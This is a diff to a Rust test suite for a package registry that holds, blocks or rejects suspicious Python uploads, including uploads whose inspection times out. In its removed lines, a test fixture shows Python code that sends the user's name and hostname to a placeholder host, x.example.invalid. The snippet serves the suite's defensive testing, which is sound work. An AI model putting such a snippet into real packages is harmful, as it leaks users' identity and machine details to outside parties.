@@ -5,10 +5,9 @@ use fondaco_testkit::{Clients, Dist, Installer, Sdist, Upload, Wheel, honest_mod
 
 use crate::house::{House, JSON, wheel};
 
-/// A package on the edge: bad enough to look at, not enough to block.
+/// A package that [`House::holding`] holds.
 pub(crate) fn suspicious(version: &str) -> Dist {
-    let code = "import os, platform, getpass, urllib.request\n\
-        urllib.request.urlopen('http://x.example.invalid/?u=' + getpass.getuser() + platform.node())\n";
+    let code = honest_module() + "NOTE = 'HOLD-ME'\n";
     Wheel::new("nosy", version).file("nosy/__init__.py", code).build()
 }
 
@@ -123,9 +122,10 @@ fn an_operator_can_allow_a_content_that_was_blocked() {
     assert_eq!(house.fondaco.get(&own(attacks::BASE64_CHAIN.project, &bad), &[]).status, 200);
 }
 
+#[cfg(feature = "yara")]
 #[test]
 fn what_is_suspicious_waits_and_only_its_owner_sees_it() {
-    let house = House::new();
+    let house = House::holding();
     let token = house.fondaco.token(&["--all-projects"]);
     let clients = Clients::new();
     let legacy = house.fondaco.url("/legacy/");
@@ -178,9 +178,10 @@ fn what_is_suspicious_waits_and_only_its_owner_sees_it() {
     assert_eq!(house.fondaco.get("/api/v1/uploads/0123", &[]).status, 404);
 }
 
+#[cfg(feature = "yara")]
 #[test]
 fn one_held_file_holds_its_release() {
-    let house = House::new();
+    let house = House::holding();
     let token = house.fondaco.token(&["--all-projects"]);
     let good = Sdist::new("nosy", "1.0").file("nosy/__init__.py", honest_module()).build();
     assert_eq!(Upload::of(&good).send(&house.fondaco, &token).status, 200);
@@ -191,6 +192,23 @@ fn one_held_file_holds_its_release() {
     let other = Wheel::new("nosy", "2.0").file("nosy/__init__.py", honest_module()).build();
     assert_eq!(Upload::of(&other).send(&house.fondaco, &token).status, 200, "another release does not wait");
     assert_eq!(house.listing("nosy")["versions"], serde_json::json!(["2.0"]));
+}
+
+#[test]
+fn an_upload_whose_inspection_is_lost_is_not_taken() {
+    let house = House::with_config("[inspect]\ntimeout = 1\n");
+    let token = house.fondaco.token(&["--all-projects"]);
+    // Long sources take an unoptimised engine some seconds.
+    let line = "x = [f'{a}' + str(b) for a, b in zip('abc', range(3))]\n";
+    let mut wheel = Wheel::new("long-winded", "1.0");
+    for module in 0..6 {
+        wheel = wheel.file(&format!("long_winded/m{module}.py"), line.repeat(100_000));
+    }
+    let answer = Upload::of(&wheel.build()).send(&house.fondaco, &token);
+    assert_eq!((answer.status, answer.reason.as_str()), (503, "the upload could not be inspected"));
+    assert!(answer.json()["hint"].as_str().unwrap().starts_with("nothing was taken"));
+    assert_eq!(house.fondaco.get("/simple/long-winded/", &[]).status, 404);
+    assert!(house.fondaco.journal().iter().all(|entry| entry["project"] != "long-winded"));
 }
 
 #[test]
